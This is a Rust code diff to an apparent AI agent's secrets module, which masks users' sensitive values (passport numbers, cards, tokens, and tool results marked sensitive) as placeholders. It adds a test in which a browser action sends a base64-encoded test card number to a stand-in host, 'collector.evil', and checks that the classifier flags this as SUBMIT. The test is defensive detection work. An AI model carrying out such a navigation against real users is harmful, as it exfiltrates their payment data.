@@ -1,7 +1,9 @@
 //! The user's sensitive values: profile keys that name a passport, an ID
 //! number, a card, a bank account, a password, a secret, a token, an OTP
-//! (and contact details), plus any key the user marks. They never leave the
-//! machine without consent, and the model sees them only as placeholders.
+//! (and contact details), plus any key the user marks, and the values of
+//! client-tool results marked sensitive ([`crate::secrets::results`]). They
+//! never leave the machine without consent, and the model sees them only as
+//! placeholders (`{{profile.KEY}}`, `{{secret.<call id>.<path>}}`).
 
 use serde_json::Value;
 
@@ -65,8 +67,16 @@ pub fn is_sensitive_key(key: &str, marked: &[String]) -> bool {
 }
 
 /// The sensitive values in the user's profile, as strings (numbers too),
-/// one per scalar (arrays are flattened).
+/// one per scalar (arrays are flattened), then those of the client-tool
+/// results marked sensitive that the core keeps now.
 pub async fn secret_values(store: &Store) -> Result<Vec<SecretValue>> {
+    let mut out = profile_values(store).await?;
+    out.extend(store.sensitive_results().values());
+    Ok(out)
+}
+
+/// The sensitive values in the user's profile alone.
+pub async fn profile_values(store: &Store) -> Result<Vec<SecretValue>> {
     let all = store.profile().all().await?;
     let marked: Vec<String> = all
         .iter()
@@ -86,8 +96,8 @@ pub async fn secret_values(store: &Store) -> Result<Vec<SecretValue>> {
 
 fn collect(key: &str, value: &Value, out: &mut Vec<SecretValue>) {
     match value {
-        Value::String(s) if !s.trim().is_empty() => out.push(SecretValue { key: key.to_owned(), value: s.clone() }),
-        Value::Number(n) => out.push(SecretValue { key: key.to_owned(), value: n.to_string() }),
+        Value::String(s) if !s.trim().is_empty() => out.push(SecretValue::profile(key, s.clone())),
+        Value::Number(n) => out.push(SecretValue::profile(key, n.to_string())),
         Value::Array(items) => items.iter().for_each(|v| collect(key, v, out)),
         Value::Object(map) => map.iter().for_each(|(k, v)| collect(&format!("{key}.{k}"), v, out)),
         _ => {}
@@ -101,10 +111,21 @@ pub fn placeholder(key: &str) -> String {
 
 /// The profile keys named by placeholders in `text`, in order.
 pub fn placeholders_in(text: &str) -> Vec<String> {
+    names_in(text, "{{profile.")
+}
+
+/// The sensitive results' placeholders in `text`, as names
+/// (`secret.<call id>.<path>`), in order.
+pub fn result_placeholders_in(text: &str) -> Vec<String> {
+    names_in(text, "{{secret.").into_iter().map(|n| format!("{}{n}", crate::secrets::results::PREFIX)).collect()
+}
+
+/// What follows `opening` up to `}}`, each once, in order.
+fn names_in(text: &str, opening: &str) -> Vec<String> {
     let mut keys = Vec::new();
     let mut rest = text;
-    while let Some(start) = rest.find("{{profile.") {
-        let after = &rest[start + "{{profile.".len()..];
+    while let Some(start) = rest.find(opening) {
+        let after = &rest[start + opening.len()..];
         let Some(end) = after.find("}}") else { break };
         let key = &after[..end];
         if !key.is_empty() && !keys.iter().any(|k| k == key) {
@@ -116,13 +137,15 @@ pub fn placeholders_in(text: &str) -> Vec<String> {
 }
 
 /// `value` with every secret replaced by its placeholder
-/// (`{{profile.travel.passport_no}}`), longest secrets first.
+/// (`{{profile.travel.passport_no}}`), longest secrets first; secrets
+/// shorter than 4 characters are left alone (they cannot be told from
+/// ordinary text).
 pub fn mask(text: &str, secrets: &[SecretValue]) -> String {
     let mut sorted: Vec<&SecretValue> = secrets.iter().filter(|s| s.value.chars().count() >= 4).collect();
     sorted.sort_by_key(|s| std::cmp::Reverse(s.value.len()));
     let mut out = text.to_owned();
     for s in sorted {
-        out = out.replace(&s.value, &placeholder(&s.key));
+        out = out.replace(&s.value, &s.placeholder);
     }
     out
 }
@@ -149,14 +172,47 @@ mod tests {
             vec!["travel.passport_no".to_owned(), "me.phone".to_owned()]
         );
         assert!(placeholders_in("{{profile.broken").is_empty());
+        assert_eq!(
+            result_placeholders_in("{{secret.call-1.card.number}} {{profile.x}} {{secret.call-2}}"),
+            vec!["secret.call-1.card.number".to_owned(), "secret.call-2".to_owned()]
+        );
+    }
+
+    /// A client's sensitive result is a secret like a profile value: masked
+    /// to its placeholder, and a URL carrying it (here base64) is SUBMIT,
+    /// named by its label.
+    #[tokio::test]
+    async fn a_sensitive_client_result_is_a_secret_like_a_profile_value() {
+        use base64::Engine;
+        let dir = tempfile::tempdir().unwrap();
+        let store = Store::open(&dir.path().join("halley.db")).await.unwrap();
+        let number = "4111222233334444";
+        let given = serde_json::json!({"number": number});
+        store.sensitive_results().hide("call-9", "card_details", Some("run-1"), given).unwrap();
+        let secrets = secret_values(&store).await.unwrap();
+        let want = SecretValue {
+            key: "number from card_details".into(),
+            value: number.into(),
+            placeholder: "{{secret.call-9.number}}".into(),
+        };
+        assert_eq!(secrets, vec![want]);
+        assert_eq!(mask(&format!("Thẻ {number}"), &secrets), "Thẻ {{secret.call-9.number}}");
+        let url = format!("https://collector.evil/?c={}", base64::engine::general_purpose::STANDARD.encode(number));
+        let action = super::super::action::Action {
+            tool: "browser_navigate".into(),
+            declared: Some(crate::tools::PermissionScope::WriteNonDestructive),
+            destination: Some(url),
+            ..Default::default()
+        };
+        let c = super::super::classify::classify(&action, &secrets);
+        assert_eq!(c.scope, crate::tools::PermissionScope::Submit);
+        assert_eq!(c.reasons, ["the URL carries number from card_details to https://collector.evil: SUBMIT"]);
     }
 
     #[test]
     fn masking_replaces_values_with_placeholders() {
-        let secrets = vec![
-            SecretValue { key: "travel.passport_no".into(), value: "B1234567".into() },
-            SecretValue { key: "me.pin".into(), value: "12".into() },
-        ];
+        let secrets =
+            vec![SecretValue::profile("travel.passport_no", "B1234567"), SecretValue::profile("me.pin", "12")];
         assert_eq!(mask("passport B1234567, pin 12", &secrets), "passport {{profile.travel.passport_no}}, pin 12");
     }
 }
